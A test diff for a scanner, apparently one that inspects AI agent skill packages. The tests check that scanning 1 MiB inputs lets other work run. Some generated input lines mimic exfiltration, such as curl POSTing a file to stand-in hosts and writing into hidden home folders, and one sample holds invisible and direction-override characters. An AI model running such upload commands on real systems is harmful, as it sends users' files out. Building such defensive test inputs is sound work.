@@ -25,16 +25,42 @@ const TEXTS: Readonly<Record<string, string>> = {
   'invisible characters': repeated('a\u200bb\u202e\u{e0041} '),
 };
 
+/** Lines of a program of which none is known from the ones before, so that what is asked of each takes time for each. */
+const LINES: Readonly<Record<string, (at: number) => string>> = {
+  hosts: (at) => `x = "https://h${at}.ab/"`,
+  'hosts to which it sends': (at) => `curl -d @x https://h${at}.ab/`,
+  folders: (at) => `open("~/.f${at}/x", "w")`,
+  'words in two parts': (at) => `x = "ab" + "c${at}"`,
+};
+
 it.each(Object.keys(TEXTS))('lets other work run while it searches 1 MiB of %s', async (name) => {
-  const text = TEXTS[name] as string;
+  const bytes = Buffer.from(TEXTS[name] as string);
   for (const path of ['SKILL.md', 'scripts/a.py']) {
-    let turns = 0;
-    const turn = setInterval(() => {
-      turns++;
-    }, 0);
     // Three, because one of blanks takes one or two slices.
-    await inspectSkill([path, `more/${path}`, `most/${path}`].map((one) => ({ path: one, bytes: Buffer.from(text) })));
-    clearInterval(turn);
-    expect(turns, path).toBeGreaterThan(2);
+    const files = [path, `more/${path}`, `most/${path}`].map((one) => ({ path: one, bytes }));
+    expect(await turnsDuring(() => inspectSkill(files)), path).toBeGreaterThan(2);
   }
 });
+
+it.each(Object.keys(LINES))('lets other work run while it searches 1 MiB of different %s', async (name) => {
+  const lineOf = LINES[name] as (at: number) => string;
+  const count = Math.ceil(MEBIBYTE / lineOf(0).length);
+  const program = Array.from({ length: count }, (_, at) => `${lineOf(at)}\n`).join('');
+  const files = [
+    { path: 'SKILL.md', bytes: Buffer.from('Brews tea.\n') },
+    { path: 'scripts/a.sh', bytes: Buffer.from(program) },
+  ];
+  expect(await turnsDuring(() => inspectSkill(files))).toBeGreaterThan(2);
+});
+
+// --- internal ---
+
+async function turnsDuring(work: () => Promise<unknown>): Promise<number> {
+  let turns = 0;
+  const turn = setInterval(() => {
+    turns++;
+  }, 0);
+  await work();
+  clearInterval(turn);
+  return turns;
+}
